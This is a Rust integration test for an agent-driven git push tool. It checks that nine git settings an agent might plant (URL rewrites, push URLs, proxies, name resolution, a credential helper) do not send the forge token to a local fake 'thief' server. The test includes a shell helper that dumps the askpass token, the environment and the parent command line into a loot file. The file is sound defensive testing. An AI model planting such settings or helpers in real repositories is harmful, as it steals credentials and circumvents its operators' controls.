//! Settings of git that an agent may plant to have the forge's token sent to somebody else: nothing of it reaches a push
//! of ours, and each of them works on a program that runs git in the agent's directory.

use crate::git_http::{Server, TOKENS, source};
use crate::repos::{Scene, branch, capture, git, habits, message, prepare, write, write_script};
use autoissue::adapters::git::repository::open;
use autoissue::ports::Repository as _;
use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// A server that asks everybody for a password, and remembers all that it is told.
struct Thief {
    port: u16,
    heard: Arc<Mutex<Vec<u8>>>,
    /// Where its program puts what it finds.
    loot: PathBuf,
}

impl Thief {
    /// It listens on a port of its own, and at another address of this machine on the port of the true server.
    fn start(root: &Path, server: u16) -> Self {
        let heard = Arc::new(Mutex::new(Vec::new()));
        let own = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = own.local_addr().unwrap().port();
        let other = TcpListener::bind(("127.0.0.2", server)).unwrap();
        for listener in [own, other] {
            let heard = Arc::clone(&heard);
            std::thread::spawn(move || {
                for stream in listener.incoming().flatten() {
                    let heard = Arc::clone(&heard);
                    std::thread::spawn(move || ask(stream, &heard));
                }
            });
        }
        let loot = root.join("loot");
        write_script(
            root,
            "helper",
            &format!(
                "#!/bin/sh\ncat > /dev/null\n{{ \"$GIT_ASKPASS\" x; env; tr '\\0' '\\n' < /proc/$PPID/cmdline; }} >> {} 2> /dev/null\n",
                loot.display()
            ),
        );
        Self { port, heard, loot }
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}/", self.port)
    }

    /// Has it the token? It forgets it then.
    fn has_it(&self) -> bool {
        let mut all = std::mem::take(&mut *self.heard.lock().unwrap());
        all.extend(std::fs::read(&self.loot).unwrap_or_default());
        let _ = std::fs::remove_file(&self.loot);
        let all = String::from_utf8_lossy(&all);
        let basic = BASE64_STANDARD.encode(format!("octobot:{}", TOKENS[0]));
        all.contains(&basic) || all.contains(TOKENS[0])
    }
}

fn ask(mut stream: TcpStream, heard: &Mutex<Vec<u8>>) {
    let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
    let mut request = Vec::new();
    let mut byte = [0];
    while !request.ends_with(b"\r\n\r\n") && matches!(stream.read(&mut byte), Ok(1)) {
        request.push(byte[0]);
    }
    heard.lock().unwrap().extend(request);
    let _ = stream.write_all(
        b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"x\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
    );
}

/// How programs hand the token to git, from the most careless.
const WAYS: [&str; 3] = [
    "a header for every address",
    "a header for its address",
    "a program that is asked",
];

type Row = (&'static str, (&'static str, &'static str), [bool; 3]);

/// What is planted, and whether the token is stolen by it, in the order of the ways. `REAL`, `ORIGIN`, `THIEF`, `ROOT`
/// and `PORT` stand for what they are.
const TABLE: [Row; 9] = [
    (
        "another address",
        ("url.THIEF.insteadOf", "ORIGIN"),
        [true, false, true],
    ),
    (
        "another address for pushes",
        ("url.THIEF.pushInsteadOf", "ORIGIN"),
        [true, false, true],
    ),
    (
        "another remote",
        ("remote.origin.url", "THIEForigin.git"),
        [true, false, true],
    ),
    (
        "another remote for pushes",
        ("remote.origin.pushurl", "THIEForigin.git"),
        [true, false, true],
    ),
    ("a proxy", ("http.proxy", "THIEF"), [true, true, true]),
    (
        "a proxy for its address",
        ("http.REAL.proxy", "THIEF"),
        [true, true, true],
    ),
    (
        "a proxy of the remote",
        ("remote.origin.proxy", "THIEF"),
        [true, true, true],
    ),
    (
        "where its name leads",
        ("http.curloptResolve", "localhost:PORT:127.0.0.2"),
        [true, true, true],
    ),
    (
        "a helper for passwords",
        ("credential.helper", "ROOT/helper"),
        [false, false, true],
    ),
];

/// The true server, the thief, and what they know of each other.
struct Street {
    scene: Scene,
    /// The address of the repository.
    real: String,
    port: String,
    thief: Thief,
    _server: Server,
}

impl Street {
    fn new() -> Self {
        let scene = Scene::new(&[("a.txt", "one\n")]);
        git(&scene.origin, &["config", "http.receivepack", "true"]);
        let server = Server::start(&scene.root);
        let real = server.url().replace("127.0.0.1", "localhost");
        let (_, rest) = real.rsplit_once(':').unwrap();
        let port = rest.split('/').next().unwrap().to_owned();
        let thief = Thief::start(&scene.root, port.parse().unwrap());
        let answers = format!(
            "#!/bin/sh\ncase \"$1\" in Username*) echo octobot ;; *) echo {} ;; esac\n",
            TOKENS[0]
        );
        write_script(&scene.root, "askpass", &answers);
        Self {
            scene,
            real,
            port,
            thief,
            _server: server,
        }
    }

    fn fill(&self, text: &str) -> String {
        text.replace("REAL", &self.real)
            .replace("ORIGIN", self.real.trim_end_matches("origin.git"))
            .replace("THIEF", &self.thief.url())
            .replace("ROOT", self.scene.root.to_str().unwrap())
            .replace("PORT", &self.port)
    }

    /// Puts it into the agent's own configuration.
    fn plant(&self, at: &Path, (key, value): (&str, &str)) {
        git(at, &["config", "remote.origin.url", &self.real]);
        git(at, &["config", &self.fill(key), &self.fill(value)]);
    }

    /// Pushes as a program would that runs git in the agent's directory. Has the thief the token then?
    fn naive_push(&self, at: &Path, way: usize) -> bool {
        let basic = BASE64_STANDARD.encode(format!("octobot:{}", TOKENS[0]));
        let key = match way {
            0 => Some("http.extraHeader".to_owned()),
            1 => Some(format!("http.{}.extraHeader", self.real)),
            _ => None,
        };
        let setting = key.map(|key| format!("{key}=Authorization: Basic {basic}"));
        let mut command = Command::new("timeout");
        command
            .args(["20", "git"])
            .args(setting.iter().flat_map(|setting| ["-c", setting]))
            .args(["push", "-q", "origin", "HEAD:refs/heads/naive"])
            .current_dir(at)
            .stdin(Stdio::null())
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_TERMINAL_PROMPT", "0");
        if way == 2 {
            command.env("GIT_ASKPASS", self.scene.root.join("askpass"));
        }
        command.output().unwrap();
        self.thief.has_it()
    }
}

#[tokio::test]
async fn no_setting_that_an_agent_plants_sends_our_token_anywhere_else() {
    let street = Street::new();
    let own = Arc::new(Mutex::new(TOKENS[0].to_owned()));
    let from = source(&street.scene, street.real.clone(), &own);
    let repository = open(street.scene.place(), from, habits()).await.unwrap();
    let mut stolen = [0; 3];
    for (issue, (name, planted, expect)) in (1..).zip(TABLE) {
        let workspace = prepare(&repository, 0, issue).await;
        let at = &workspace.path;
        street.plant(at, planted);
        write(at, "a.txt", format!("{name}\n"));
        let captured = capture(&repository, &workspace, issue).await;
        let base = std::slice::from_ref(&workspace.base);
        let commit = repository.commit(&captured, base, &message(issue)).await;
        let commit = commit.unwrap().id;
        let branch = branch(issue);
        repository.push(&branch, &commit, None).await.unwrap();
        repository.fetch("main").await.unwrap();
        assert!(!street.thief.has_it(), "{name}: our token is stolen");
        let there = git(&street.scene.origin, &["rev-parse", branch.as_str()]);
        assert_eq!(there, commit.as_str(), "{name}: it was pushed");

        // The control: the same directory, and git in it.
        let found = [0, 1, 2].map(|way| street.naive_push(at, way));
        assert_eq!(found, expect, "{name}, by {WAYS:?}");
        for (sum, found) in stolen.iter_mut().zip(found) {
            *sum += u32::from(found);
        }
        repository.release(workspace).await.unwrap();
    }
    println!("stolen from plain git: {stolen:?} of {} each", TABLE.len());
}
